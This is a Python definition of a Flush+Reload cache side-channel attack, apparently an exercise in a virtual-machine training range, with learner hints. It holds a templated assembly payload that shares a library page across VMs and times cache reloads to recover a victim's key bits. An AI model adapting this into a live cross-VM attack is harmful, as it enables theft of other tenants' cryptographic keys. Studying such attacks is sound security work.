"""Flush and reload: a line that two VMs share tells each of them when the other has used it."""

from vmwidgets.model.range.attack import Attack, Placement
from vmwidgets.model.words import said

FLUSH_RELOAD = Attack(
    id="flush_reload",
    title=said("flush and reload on a shared page"),
    code="""
    mov rsi, {page_bytes}       ; page 1 becomes a copy of the page of the library
    mov rax, {library_word}
    mov [rsi], rax
    mov r12, {round_cycles}     ; wait until the scanner has merged it
    add r12, r12
    mov rax, r12
    mov rdx, r12
    shr rdx, 32
    mov rcx, 0x6e0
    wrmsr
    hlt
    add rsi, {line_bytes}       ; the line of the code that runs for bits that are 1
    mov r10, {key_bits}
    xor r8, r8                  ; the key
listen:
    clflush [rsi]
    rdtsc
    shl rdx, 32
    or rax, rdx
    shr rax, {tick_shift}
    mov rcx, rax                ; the tick, and with it the bit that the victim uses in it
    hlt
    rdtsc
    mov r9, rax
    mov rax, [rsi]
    rdtsc
    sub rax, r9
    cmp rax, {slow_load}
    ja unused
    mov rax, 1
    shl rax, cl
    or r8, rax
unused:
    dec r10
    jnz listen
    mov rax, {call_report}
    mov rdi, r8
    vmcall
""",
    placement=Placement(timed=True),
    family="V5",
    number=12,
    like="Yarom and Falkner 2014",
    hints=(
        said("A page that two VMs share has one set of lines in the cache."),
        said("Flush a line, let the victim work, and measure how long it takes to load it again."),
        said("Make a copy of the page of the library, wait for the scanner, and watch its line 1 tick after tick."),
    ),
)
"""Watches, tick after tick, whether the victim has run the code for a bit that is 1."""
